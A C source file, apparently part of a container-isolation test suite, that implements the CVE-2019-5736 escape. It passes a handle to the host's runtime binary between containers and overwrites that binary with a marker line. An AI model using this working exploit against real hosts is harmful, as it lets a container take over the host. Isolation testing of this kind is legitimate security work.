/* SPDX-License-Identifier: MIT */
/*
 * CVE-2019-5736: overwrite the program that the host starts containers with.
 *
 * It is process 1, and cannot be written while it runs. So it is opened by path only, and the fd
 * handed to an accomplice in another container, who waits until it has ended.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

union rights {
    struct cmsghdr header;
    char space[CMSG_SPACE(sizeof(int))];
};

static struct sockaddr_un address(const char *path)
{
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
    return a;
}

static int send_fd(int socket, int fd)
{
    union rights rights = {.header = {CMSG_LEN(sizeof fd), SOL_SOCKET, SCM_RIGHTS}};
    char byte = 0;
    struct iovec data = {&byte, 1};
    struct msghdr message = {
        .msg_iov = &data, .msg_iovlen = 1, .msg_control = &rights, .msg_controllen = sizeof rights};
    memcpy(CMSG_DATA(&rights.header), &fd, sizeof fd);
    return sendmsg(socket, &message, 0) == 1 ? 0 : -1;
}

static int receive_fd(int socket)
{
    union rights rights;
    char byte;
    int fd = -1;
    struct iovec data = {&byte, 1};
    struct msghdr message = {
        .msg_iov = &data, .msg_iovlen = 1, .msg_control = &rights, .msg_controllen = sizeof rights};
    if (recvmsg(socket, &message, 0) == 1 && CMSG_FIRSTHDR(&message))
        memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
    return fd;
}

/* image-send SOCKET */
int attack_image_send(char **argv)
{
    struct sockaddr_un accomplice = address(argv[0]);
    int program = open("/proc/1/exe", O_PATH);
    if (program < 0)
        return attack_held("open /proc/1/exe");
    int to = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(to, (struct sockaddr *)&accomplice, sizeof accomplice) < 0)
        return attack_not_tried("connect");
    return send_fd(to, program) < 0 ? attack_held("send it") : ATTACK_OUT;
}

static int overwrite(int program)
{
    static const char instead[] = "#!/attack\n";
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    for (int tries = 0; tries < 3000; tries++) {
        int fd = open(path, O_WRONLY);
        if (fd >= 0 && pwrite(fd, instead, sizeof instead - 1, 0) == sizeof instead - 1)
            return ATTACK_OUT;
        if (fd >= 0 || errno != ETXTBSY)
            return attack_held("write it");
        nanosleep(&(struct timespec){.tv_nsec = 10000000}, NULL); /* it still runs */
    }
    return attack_held("wait for its end");
}

/* image-receive SOCKET */
int attack_image_receive(char **argv)
{
    struct sockaddr_un own = address(argv[0]);
    int listener = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&own, sizeof own) < 0 || chmod(argv[0], 0777) < 0 ||
        listen(listener, 1) < 0)
        return attack_not_tried("listen");
    int from = accept(listener, NULL, NULL);
    int program = receive_fd(from);
    return program < 0 ? attack_held("receive it") : overwrite(program);
}
